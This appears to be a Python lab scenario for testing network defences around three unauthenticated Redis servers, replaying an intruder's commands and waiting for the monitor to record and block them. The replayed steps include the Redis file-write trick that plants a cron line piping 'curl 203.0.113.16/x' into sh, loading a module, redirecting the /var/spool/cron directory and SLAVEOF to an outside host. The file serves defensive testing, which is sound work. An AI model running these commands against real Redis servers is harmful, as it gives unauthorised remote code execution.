# SPDX-License-Identifier: ISC
"""Redis without a password: scripts of strangers run, files are written, a module is loaded."""

HOSTS = {"cache": (84, 1), "old": (85, 1), "strict": (86, 1)}
PACKAGES = ["redis-server", "redis-tools", "gcc"]

# As before Redis 7: whoever is let in may say where files are written, and load modules. One that
# can be loaded says its name and version, and does nothing.
OLD = r"""
cat >module.c <<'END'
typedef int (*get_api)(const char *name, void *function);
int RedisModule_OnLoad(void **context, void **words, int count)
{
	int (*attributes)(void *context, const char *name, int version, int interface);

	(void)words, (void)count;
	((get_api)*context)("RedisModule_SetModuleAttribs", &attributes);
	attributes(context, "system", 1, 1);
	return 0;
}
END
gcc -shared -fPIC -o module.so module.c
exec redis-server --port 6379 --bind '*' '-::*' --protected-mode no --save '' --dir $DIR \
	--enable-module-command yes --enable-protected-configs yes
"""
TARGETS = ("cache", "old", "strict")


def as_the_stranger_does(say, home):
    """say(which client, command)"""
    say(0, "redis-cli -h $CACHE INFO server")
    say(0, "redis-cli -h $CACHE EVAL \"return redis.call('DBSIZE')\" 0")
    say(0, "redis-cli -h $CACHE FUNCTION LOAD \"#!lua name=f\nredis.register_function('g', "
           "function() return 1 end)\"")
    say(0, "redis-cli -h $CACHE FCALL g 0")

    say(1, "redis-cli -h $OLD CONFIG SET dir /srv/lab/old-redis")
    say(1, "redis-cli -h $OLD CONFIG SET dbfilename root")
    say(1, "redis-cli -h $OLD SET x '* * * * * curl 203.0.113.16/x | sh'")
    say(1, "redis-cli -h $OLD SAVE")
    say(1, "redis-cli -h $OLD MODULE LOAD /srv/lab/old-redis/module.so")
    say(1, f"redis-cli -h $OLD SLAVEOF {home} 6379")

    say(2, "redis-cli -h $STRICT INFO server")
    say(2, "redis-cli -h $STRICT CONFIG SET dir /var/spool/cron")
    say(2, "redis-cli -h $STRICT MODULE LOAD /tmp/exp.so")


def play(stage):
    stage.serve("cache", "redis")
    stage.serve("strict", "redis")
    stage.serve("old", "redis", script=OLD, ready=[("tcp", 6379)])
    as_the_stranger_does(lambda _, script: stage.colleague(script),
                         stage.lab.network.colleague.v4[0])
    stage.colleague("redis-cli -h $OLD SLAVEOF NO ONE; redis-cli -h $OLD MODULE UNLOAD system; "
                    "redis-cli -h $CACHE FUNCTION FLUSH")

    group = [(stage.address(role), "tcp", 6379) for role in TARGETS]
    stage.close(*group)
    stage.probe(group)
    stage.wait_wall()
    stage.change("opened", "open", group)
    as_the_stranger_does(lambda number, script: stage.ask(number, script),
                         stage.clients[1].v4[0])
    stage.wait("what was run", "level=destroyed", "command~SLAVEOF")
    stage.wait("what was refused", "command~MODULE LOAD")

    stage.change("closed", "shut", group)
    stage.probe(group, first=4)
    stage.wait("the proof", "kind=incident.closed")
